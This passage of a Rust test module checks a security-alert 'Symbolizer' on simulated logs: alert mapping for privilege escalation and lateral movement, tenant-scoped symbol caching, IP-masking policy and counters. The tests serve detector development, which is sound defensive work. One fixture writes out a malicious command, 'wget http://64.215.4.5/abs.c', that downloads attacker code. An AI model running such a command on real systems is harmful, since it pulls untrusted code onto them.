            exit_code: 0,
        });
        let alerts = sym().symbolize(&r);
        assert_eq!(alerts[0].kind, AlertKind::PrivilegeEscalation);
        assert!(alerts[0].is_critical());
    }

    #[test]
    fn custom_notice_maps_via_symbol() {
        let r = LogRecord::Notice(NoticeRecord {
            ts: SimTime::from_secs(1),
            note: NoticeKind::Custom(g("alert_lateral_movement")),
            msg: g("site policy"),
            src: "141.142.77.5".parse().unwrap(),
            dst: None,
            sub: Sym::EMPTY,
        });
        let alerts = sym().symbolize(&r);
        assert_eq!(alerts[0].kind, AlertKind::LateralMovementAttempt);
    }

    #[test]
    fn render_message_honours_configured_sanitize_policy() {
        let mut cfg = SymbolizerConfig::default();
        cfg.sanitize.mask_ips = false;
        let mut s = Symbolizer::new(cfg);
        let alerts = s.symbolize(&conn(
            ConnState::S0,
            Direction::Inbound,
            "103.102.1.1",
            "141.142.2.1",
            22,
            0,
        ));
        // The default render path masks; the symbolizer's configured
        // policy (mask_ips = false) keeps the raw address.
        assert!(alerts[0]
            .message
            .render(s.scope())
            .contains("141.142.xxx.yyy"));
        assert!(s.render_message(&alerts[0].message).contains("141.142.2.1"));
    }

    #[test]
    fn scope_keyed_memo_survives_evict_and_reintern() {
        use simnet::intern::{TenantId, TenantSymbols};
        use simnet::time::SimTime;
        use simnet::topology::HostId;

        let proc_in = |scope: &simnet::intern::SymScope, cmdline: &str| {
            LogRecord::Process(ProcessRecord {
                ts: SimTime::from_secs(1),
                host: HostId(0),
                hostname: scope.sym("cn01"),
                user: scope.sym("eve"),
                pid: 1,
                ppid: 0,
                exe: scope.sym("/bin/sh"),
                cmdline: scope.sym(cmdline),
            })
        };

        let reg = TenantSymbols::new();
        let tenant = TenantId(3);
        let scope_a = reg.scope(tenant);
        // In scope A, the malicious cmdline is the first user string
        // interned — it gets the lowest free id.
        let malicious = "wget http://64.215.4.5/abs.c";
        let mal_sym = scope_a.sym(malicious);
        let mut s = Symbolizer::with_defaults();
        s.set_scope(scope_a.clone());
        let alerts = s.symbolize(&proc_in(&scope_a, malicious));
        assert_eq!(alerts[0].kind, AlertKind::DownloadSensitive);

        // Evict the tenant and recreate its slot. In the successor scope,
        // intern a *benign* cmdline first so it lands on the same 32-bit
        // id the malicious one had in scope A.
        drop(scope_a);
        assert!(reg.evict(tenant));
        let scope_b = reg.scope(tenant);
        let benign_sym = scope_b.sym("ls -la");
        assert_eq!(
            benign_sym.id(),
            mal_sym.id(),
            "test needs the id to be recycled"
        );
        s.set_scope(scope_b.clone());
        // Without scope-keyed memos this would hit the stale
        // DownloadSensitive verdict cached for the old scope's id.
        let alerts = s.symbolize(&proc_in(&scope_b, "ls -la"));
        assert!(alerts.is_empty(), "stale verdict resurrected: {alerts:?}");
        // And re-interning the same malicious cmdline in the new scope
        // still gets the correct verdict (recomputed, not resurrected).
        let alerts = s.symbolize(&proc_in(&scope_b, malicious));
        assert_eq!(alerts[0].kind, AlertKind::DownloadSensitive);
    }

    #[test]
    fn tenant_scoped_symbolizer_isolates_custom_notices() {
        use simnet::intern::SymScope;
        // The same NoticeKind::Custom id means different symbols in
        // different scopes; scope-keyed memos must not cross-talk.
        let scope_a = SymScope::fresh();
        let scope_b = SymScope::fresh();
        let a_sym = scope_a.sym("alert_lateral_movement");
        let b_sym = scope_b.sym("note_informational_only");
        assert_eq!(a_sym.id(), b_sym.id());
        let notice = |sym| {
            LogRecord::Notice(NoticeRecord {
                ts: SimTime::from_secs(1),
                note: NoticeKind::Custom(sym),
                msg: Sym::EMPTY,
                src: "141.142.77.5".parse().unwrap(),
                dst: None,
                sub: Sym::EMPTY,
            })
        };
        let mut s_a = Symbolizer::with_defaults();
        s_a.set_scope(scope_a);
        let mut s_b = Symbolizer::with_defaults();
        s_b.set_scope(scope_b);
        assert_eq!(
            s_a.symbolize(&notice(a_sym))[0].kind,
            AlertKind::LateralMovementAttempt
        );
        assert!(
            s_b.symbolize(&notice(b_sym)).is_empty(),
            "verdict leaked across scopes"
        );
    }

    #[test]
    fn counters_track_emissions() {
        let mut s = sym();
        let r = conn(
            ConnState::S0,
            Direction::Inbound,
            "1.1.1.1",
            "141.142.2.1",
            22,
            0,
        );
        s.symbolize(&r);
        s.symbolize(&r);
        assert_eq!(s.alerts_emitted(), 2);
    }
}
